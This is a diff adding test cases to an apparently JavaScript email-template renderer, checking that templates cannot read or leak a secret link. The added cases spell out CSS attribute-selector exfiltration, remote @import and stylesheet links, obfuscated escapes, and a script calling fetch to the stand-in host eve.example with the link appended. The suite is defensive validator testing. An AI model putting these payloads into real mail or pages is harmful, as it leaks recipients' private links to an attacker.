@@ -316,6 +316,67 @@ describe('the link', () => {
   });
 
   it.each([
+    ['a selector by its address', '<style>a[href*="aB"]{background:url(//eve.example/aB)}</style>'],
+    [
+      'such selectors for all pairs of letters',
+      '{% assign all = "a,b,c" | split: "," %}<style>{% for a in all %}{% for b in all %}a[href*="{{ a }}{{ b }}"]{--x:url(//eve.example/{{ a }}{{ b }})}{% endfor %}{% endfor %}</style>',
+    ],
+    [
+      'a selector in a condition',
+      '<style>@media screen{@supports (color:red){[href$=a]{color:red}}}</style>',
+    ],
+    ['a selector with an escape', '<style>a[\\68 ref*="a"]{color:red}</style>'],
+    ['a selector with a comment', '<style>a[/**/href*="a"]{color:red}</style>'],
+    ['a selector with a namespace', '<style>a[*|href*="a"]{color:red}</style>'],
+    [
+      'a selector between strings that look like a comment',
+      `<style>b{content:"/*"}a[href*=a]{}c{content:"*/"}</style>`,
+    ],
+    ['a selector by what Outlook puts beside it', '<style>a[originalsrc*="a"]{color:red}</style>'],
+    ['a selector that begins like the link', '<style>a[href^="https"]{color:red}</style>'],
+    ['a selector in a drawing', '<svg><style>a&#91;href*="a"]{color:red}</style></svg>'],
+    [
+      'a selector in a shadow',
+      '<div><template shadowrootmode="open"><style>::slotted(a){}</style></template></div>',
+    ],
+    ['an import', '<style>@import url(https://eve.example/x.css);</style>'],
+    ['an import with an escape', '<style>@\\000069\r\nmport "https://eve.example/x.css";</style>'],
+    ['its address as text', '<style>a::after{content:attr(href)}</style>'],
+    ['its address as text, with an escape', '<style>a::after{content:\\61ttr(href)}</style>'],
+    ['a style that takes its address', '<p style="--x:ATTR(href)">x</p>'],
+    ['a style sheet from elsewhere', '<link href="https://eve.example/x.css" rel="Alternate StyleSheet">'],
+    ['a style sheet of its own', '<link rel="stylesheet" href="data:text/css,a{}">'],
+    ['a style sheet of XML', '<?xml-stylesheet href="https://eve.example/x.css"?>'],
+    [
+      'a style sheet of a header',
+      '<meta http-equiv="Link" content="<https://eve.example/x.css>;rel=stylesheet">',
+    ],
+    ['a script', '<script>fetch("https://eve.example/?"+document.links[0].href)</script>'],
+    ['a script in an attribute', '<img src="x" onerror="location=document.links[0].href">'],
+  ])('may not be read by %s', async (_what, html) => {
+    const read = renderMail(template({ html: `<a href="{{ link }}">x</a>${html}` }), variables(), 'en');
+    await expect(read).rejects.toMatchObject({ part: 'html', rule: 'template.reads-link' });
+  });
+
+  it.each([
+    'a[x-apple-data-detectors]{color:inherit!important}',
+    'a[href^=tel],a[href^="mailto:"],a[href^="x-apple-data-detectors:"]{color:inherit}',
+    '[owa] .column,[data-ogsc] .dark{width:100%!important}',
+    'td[class="x"],div[class~=x],[class*=\'y-\'],[style*="color:#fff"]{width:100%!important}',
+    'u + #body a,#MessageViewBody a,.ExternalClass *{line-height:100%}',
+    'v\\:*{behavior:url(#default#VML)}a:hover{color:red}',
+    '@media only screen and (max-width:480px){.sm\\:full{width:100%}}@font-face{font-family:X;src:url(https://www.example.com/x.woff2)}',
+  ])('is not read by %s', async (css) => {
+    const html = `<style>${css}</style><a href="{{ link }}" style="color:red">x</a>`;
+    expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK]);
+  });
+
+  it('may stand beside data that mail programs show', async () => {
+    const html = '<script type="application/ld+json">{"a":1}</script><a href="{{ link }}">x</a>';
+    expect(read((await renderMail(template({ html }), variables(), 'en')).html).hrefs).toEqual([LINK]);
+  });
+
+  it.each([
     ['an address before it', 'https://eve.example/?q=<a href="{{ link }}"></a>'],
     [
       'an address and a space that some take for a letter',
